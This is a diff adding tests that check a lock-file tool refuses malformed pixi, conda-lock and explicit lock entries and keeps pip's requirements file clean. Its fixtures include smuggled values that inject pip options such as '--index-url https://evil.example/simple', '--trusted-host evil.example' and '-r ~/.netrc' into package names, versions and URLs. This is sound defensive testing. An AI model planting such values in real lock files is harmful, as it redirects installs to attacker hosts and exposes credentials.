@@ -368,3 +368,180 @@ def test_one_hostile_url_or_digest_is_told_alike_in_both_lock_formats(world, rel
     unified.write_text(_conda_lock(url=json.dumps(url), hash=f'\n    {kind}: "{digest}"'))
     told = [_refused(world, reliability, lock, standin, "create", same) for lock in (explicit, unified)]
     assert "line 3" in told[0] and "package[0]" in told[1], told
+
+
+# ------------------------------------------------------------------ hostile pixi.lock files, and pip names in every lock
+
+_WHEEL = "https://h/w/mytool-1.0-py3-none-any.whl"
+_INJECTED = "mytool\n--index-url https://evil.example/simple\n--trusted-host evil.example\n-r ~/.netrc"
+
+
+def _pixi(ref: str = "", entry: str = "", other_ref: str = "", version: int = 7) -> str:
+    """A pixi.lock (version 7) of python for linux-64 and osx-64; ref: a reference added to linux-64's
+    list, other_ref: to osx-64's, entry: an entry added to `packages` (YAML text, indented as there)."""
+    urls = {p: f"https://h/c/{p}/python-3.11-0.conda" for p in ("linux-64", "osx-64")}
+    lists = "".join(f"      {p}:\n      - conda: {u}\n" + (f"      {r}\n" if r else "")
+                    for (p, u), r in zip(urls.items(), (ref, other_ref)))
+    entries = "".join(f"- conda: {u}\n  sha256: {_SHA}\n  md5: {_MD5}\n" for u in urls.values())
+    table = "platforms:\n- name: linux-64\n- name: osx-64\n" if version == 7 else ""
+    return (f"version: {version}\n{table}environments:\n  default:\n    channels:\n    - url: https://h/c/\n"
+            f"    packages:\n{lists}packages:\n{entries}{entry}")
+
+
+def _pypi_entry(name: str = "mytool", url: str = _WHEEL, version: str = "1.0", sha256: str = "c" * 64) -> str:
+    return f"- pypi: {json.dumps(url)}\n  name: {json.dumps(name)}\n  version: {json.dumps(version)}\n  sha256: {sha256}\n"
+
+
+@pytest.mark.parametrize("text, wanted", [
+    (_pixi(ref="- conda: [a, b]"), ["environments.default.packages.linux-64[1].conda is not a string"]),
+    (_pixi(other_ref="- conda: [a, b]"), ["environments.default.packages.osx-64[1].conda is not a string"]),
+    (_pixi(other_ref="- conda: https://h/c/osx-64/foo.conda",
+           entry=f"- conda: https://h/c/osx-64/foo.conda\n  sha256: {_SHA}\n"),
+     ["packages.osx-64[1]", "'https://h/c/osx-64/foo.conda' is no NAME-VERSION-BUILD archive name"]),
+    (_pixi(entry="- conda: [a, b]\n  sha256: x\n"), ["field packages[2].conda is not a string"]),
+    (_pixi(ref="- conda: {a: b}"), ["environments.default.packages.linux-64[1].conda is not a string"]),
+    (_pixi(ref="- pypi: 42"), ["linux-64[1]: pypi '42' has no entry"]),
+    (_pixi(ref="- [conda, x]"), ["linux-64[1]: expected `- conda: URL`"]),
+    (_pixi(ref=f"- pypi: {_WHEEL}", entry=_pypi_entry().replace('name: "mytool"', "name: [my, tool]")),
+     ["linux-64[1]: name is not a string"]),
+    (_pixi(ref=f"- pypi: {_WHEEL}", entry=_pypi_entry(sha256="[1, 2]")), ["linux-64[1]: sha256 is not a string"]),
+    (_pixi(ref=f"- pypi: {_WHEEL}", entry=_pypi_entry().replace('version: "1.0"', "version: {a: 1}")),
+     ["linux-64[1]: version is not a string"]),
+    (_pixi().replace("- name: osx-64\n", "- name: [osx-64]\n"), ["field platforms[1].name is not a string"]),
+    ("version: 7\nplatforms:\n- name: linux-64\nenvironments:\n  default:\n    packages: linux-64\npackages: []\n",
+     ["environments.default.packages is not an object"]),
+    (_pixi().replace("      osx-64:\n      - conda: https://h/c/osx-64/python-3.11-0.conda\n",
+                     "      osx-64: {conda: x}\n"), ["environments.default.packages.osx-64 is not a list"]),
+    (_pixi(entry=f"- conda: https://h/c/linux-64/python-3.11-0.conda\n  sha256: [{_SHA}]\n"
+           ).replace(f"- conda: https://h/c/linux-64/python-3.11-0.conda\n  sha256: {_SHA}\n  md5: {_MD5}\n", "", 1),
+     ["linux-64[0]: sha256 is not a string"]),
+], ids=["conda-list", "other-platform-list", "other-platform-foo.conda", "entry-list", "conda-mapping", "pypi-number",
+        "reference-list", "name-list", "sha256-list", "version-mapping", "platform-name-list", "packages-string",
+        "platform-mapping", "digest-list"])
+def test_a_hostile_pixi_lock_is_refused_naming_the_place(world, reliability, standin, text, wanted):
+    lock = world.root / "pixi.lock"
+    lock.write_text(text)
+    _refused(world, reliability, lock, standin, "create", *wanted)
+
+
+def _conda_lock_pip(name: str, url: str = _WHEEL, version: str = "1.0") -> str:
+    return _conda_lock(_entry(name=json.dumps(name), url=json.dumps(url), version=json.dumps(version),
+                              manager='"pip"', hash=f'\n    sha256: "{"c" * 64}"')
+                       + "\n" + _entry())
+
+
+@pytest.mark.parametrize("file_name, text, wanted", [
+    ("pixi.lock", _pixi(ref=f"- pypi: {_WHEEL}", entry=_pypi_entry(_INJECTED)), "linux-64[1]: name"),
+    ("pixi.lock", _pixi(ref=f"- pypi: {_WHEEL}", entry=_pypi_entry(version="1.0\n-r ~/.netrc")), "linux-64[1]: version"),
+    ("pixi.lock", _pixi(ref=f"- pypi: {json.dumps(_WHEEL + ' --index-url https://evil.example/simple')}",
+                        entry=_pypi_entry(url=_WHEEL + " --index-url https://evil.example/simple")), "linux-64[1]: url"),
+    ("x-lock.yml", _conda_lock_pip(_INJECTED), "package[0]: name"),
+    ("x-lock.yml", _conda_lock_pip("mytool", url=_WHEEL + "\n--trusted-host evil.example"), "package[0]: url"),
+    ("x-lock.yml", _conda_lock_pip("mytool", url="direct+" + _WHEEL), "not an http, https or file URL"),
+    ("x.lock", f"@EXPLICIT\n{_URL}#{_SHA}\n# pip: --trusted-host==1 {_WHEEL}#sha256={'c' * 64}\n", "line 3: name"),
+    ("x.lock", f"@EXPLICIT\n{_URL}#{_SHA}\n# pip: mytool==1 --index-url=https://evil.example#sha256={'c' * 64}\n",
+     "line 3: url"),
+    ("x.lock", f"@EXPLICIT\n{_URL}#{_SHA}\n# pip -r @ {_WHEEL}#sha256={'c' * 64}\n", "line 3: name"),
+], ids=["pixi-name", "pixi-version", "pixi-url", "conda-lock-name", "conda-lock-url", "conda-lock-scheme", "explicit-ours-name",
+        "explicit-ours-url", "explicit-conda-lock-name"])
+def test_a_pip_name_version_or_url_holding_lines_or_options_never_reaches_pip(world, reliability, standin, file_name,
+                                                                               text, wanted):
+    lock = world.root / file_name
+    lock.write_text(text)
+    said = _refused(world, reliability, lock, standin, "create", wanted)
+    assert not list((world.root).rglob("pip-requirements.txt")), "no requirements file was written"
+    assert "Traceback" not in said
+
+
+# ------------------------------------------------------------------ the lock readers fuzzed with those shapes (hypothesis)
+
+from tests.support import fuzzprofile  # noqa: E402
+
+_FIELD = st.sampled_from(["name", "version", "url", "sha256", "location", "ref", "platform"])
+_SHAPE = st.one_of(
+    _HOSTILE_TEXT, st.integers(), st.floats(allow_nan=False), st.none(), st.booleans(),
+    st.lists(st.text(max_size=5), max_size=3), st.dictionaries(st.text(min_size=1, max_size=3), st.text(max_size=3), max_size=2),
+    st.sampled_from([_INJECTED, "mytool\r\n-r ~/.netrc", "--index-url=https://evil.example/simple", "-e .",
+                     "direct+" + _WHEEL, _WHEEL + " --hash=sha256:" + "0" * 64, "x.conda", "foo.conda", "a b"]),
+)
+
+
+def _requirement_lines(lock) -> list:
+    from mambaboot.pipeline import provision
+
+    return provision.locked_requirements([p for p in lock.pip if p.sha256], "/nonexistent/cache")
+
+
+def _read(kind: str, text: str):
+    from mambaboot.environment import condalock, lockfile, pixilock
+
+    if kind == "pixi":
+        return pixilock.parse(text, "pixi.lock", "/", "linux-64")
+    if kind == "conda-lock":
+        return condalock.parse(text, "x-lock.yml", "/").for_platform("linux-64", "x-lock.yml")
+    return lockfile.parse(text, "x.lock", "/", "linux-64")
+
+
+def _hostile_lock(kind: str, field: str, value: object) -> str:
+    y = json.dumps(value)  # JSON is YAML's flow style: the value reaches the reader as drawn
+    if kind == "pixi":
+        entry = {"name": _pypi_entry().replace('name: "mytool"', f"name: {y}"),
+                 "version": _pypi_entry().replace('version: "1.0"', f"version: {y}"),
+                 "sha256": _pypi_entry().replace("sha256: " + "c" * 64, f"sha256: {y}")}.get(field, _pypi_entry())
+        ref = f"- pypi: {_WHEEL}"
+        if field in ("url", "location"):
+            entry, ref = entry.replace(f'- pypi: "{_WHEEL}"', f"- pypi: {y}"), f"- pypi: {y}"
+        if field == "ref":
+            ref = f"- conda: {y}"
+        if field == "platform":
+            return _pixi(ref, entry).replace("- name: osx-64\n", f"- name: osx-64\n  subdir: {y}\n")
+        return _pixi(ref, entry, other_ref=ref)
+    if kind == "conda-lock":
+        fields = {"name": "mytool", "url": _WHEEL, "version": "1.0"}
+        if field in ("name", "url", "version"):
+            text = _conda_lock_pip(**{**fields, field: "@@"})
+            return text.replace('"@@"', y)
+        if field == "sha256":
+            return _conda_lock(_entry(hash=f"\n    sha256: {y}"))
+        return _conda_lock(_entry(**{{"location": "url", "ref": "hash"}.get(field, field): y}))
+    line = {"name": f"# pip {value} @ {_WHEEL}#sha256={'c' * 64}", "version": f"# pip: mytool=={value} {_WHEEL}#sha256={'c' * 64}",
+            "url": f"# pip mytool @ {value}#sha256={'c' * 64}", "sha256": f"# pip mytool @ {_WHEEL}#sha256={value}",
+            "location": f"{value}#{_SHA}", "ref": f"# pip mytool @ {_WHEEL}#{value}", "platform": f"# platform: {value}"}[field]
+    return f"@EXPLICIT\n{_URL}#{_SHA}\n{line}\n"
+
+
+@fuzzprofile.seeded
+@fuzzprofile.chosen(max_examples=fuzzprofile.examples("MAMBABOOT_FUZZ_EXAMPLES", 60))
+@given(kind=st.sampled_from(["pixi", "conda-lock", "explicit"]), field=_FIELD, value=_SHAPE)
+def test_lock_readers_take_a_hostile_shape_or_refuse_it_and_pip_gets_exactly_their_entries(kind, field, value):
+    """Every reader, a drawn shape where a name, version, URL, digest, location or reference goes:
+    a Lock or a UsageError, never another exception; and pip's requirements file holds exactly one
+    line per pinned PyPI entry of the lock, `NAME @ URL --hash=sha256:HASH`, nothing else."""
+    from mambaboot.common.errors import UsageError
+
+    text = _hostile_lock(kind, field, value)
+    try:
+        lock = _read(kind, text)
+    except UsageError:
+        return
+    lines = _requirement_lines(lock)
+    pinned = [p for p in lock.pip if p.sha256]
+    assert len(lines) == len(pinned)
+    for line, entry in zip(lines, pinned):
+        assert line == f"{entry.name} @ {entry.url} --hash=sha256:{entry.sha256}", line
+        assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]* @ [^\s-]\S* --hash=sha256:[0-9a-f]{64}", line), line
+        assert not entry.url.startswith("direct+"), entry
+
+
+def test_pip_s_requirements_file_holds_the_lock_s_pypi_entries_line_for_line():
+    """Each reader's pinned PyPI entries, in the lock's order, are the requirements file's lines."""
+    pixi = _pixi(f"- pypi: {_WHEEL}\n      - pypi: direct+https://h/w/other-2.0-py3-none-any.whl",
+                 _pypi_entry() + _pypi_entry("other", "direct+https://h/w/other-2.0-py3-none-any.whl", "2.0", "d" * 64))
+    explicit = f"@EXPLICIT\n{_URL}#{_SHA}\n# pip mytool @ {_WHEEL}#sha256={'c' * 64}\n# pip: other==2.0 https://h/w/other-2.0-py3-none-any.whl#sha256={'d' * 64}\n"
+    wanted = [f"mytool @ {_WHEEL} --hash=sha256:{'c' * 64}",
+              f"other @ https://h/w/other-2.0-py3-none-any.whl --hash=sha256:{'d' * 64}"]
+    assert _requirement_lines(_read("pixi", pixi)) == wanted
+    assert _requirement_lines(_read("explicit", explicit)) == wanted
+    conda_lock = _conda_lock(_entry(name='"mytool"', url=json.dumps(_WHEEL), manager='"pip"',
+                                    hash=f'\n    sha256: "{"c" * 64}"'))
+    assert _requirement_lines(_read("conda-lock", conda_lock)) == wanted[:1]
